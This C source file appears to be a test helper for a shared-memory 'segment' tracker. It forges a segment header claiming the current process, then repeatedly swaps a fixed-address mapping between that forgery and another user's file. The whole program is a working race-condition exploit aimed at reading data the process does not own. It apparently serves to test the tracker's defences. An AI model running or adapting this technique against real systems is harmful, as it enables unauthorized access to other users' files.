// flip SEGMENT VICTIM OWN.seg PID_OFFSET START_OFFSET STATE_OFFSET SIZE: maps, in turns and at one address, a segment
// that claims this process, and VICTIM, a file of another user's. The segment has the first page of SEGMENT, which is
// the tracker's, with this process's identity at these offsets of crates/segment/src/layout.rs.
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

int main(int count, char **words) {
    char page[4096];
    if (count < 8) return 1;
    int from = open(words[1], O_RDONLY), victim = open(words[2], O_RDONLY);
    if (from < 0 || victim < 0 || read(from, page, sizeof page) != sizeof page) return 2;
    struct timespec now;
    clock_gettime(CLOCK_BOOTTIME, &now);
    uint32_t pid = getpid(), running = 1;
    uint64_t start = now.tv_sec * 1000000000ull + now.tv_nsec;
    memcpy(page + atoi(words[4]), &pid, 4);
    memcpy(page + atoi(words[5]), &start, 8);
    memcpy(page + atoi(words[6]), &running, 4);
    int own = open(words[3], O_RDWR | O_CREAT | O_TRUNC, 0600);
    if (own < 0 || write(own, page, sizeof page) != sizeof page || ftruncate(own, atoll(words[7]))) return 3;
    unlink(words[3]);
    void *at = (void *)0x10000000;
    mmap(at, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, own, 0);
    puts("ready");
    fflush(stdout);
    for (;;) {
        mmap(at, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, own, 0);
        for (volatile int i = 0; i < 20000; i++) {}
        mmap(at, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, victim, 0);
        for (volatile int i = 0; i < 20000; i++) {}
    }
}
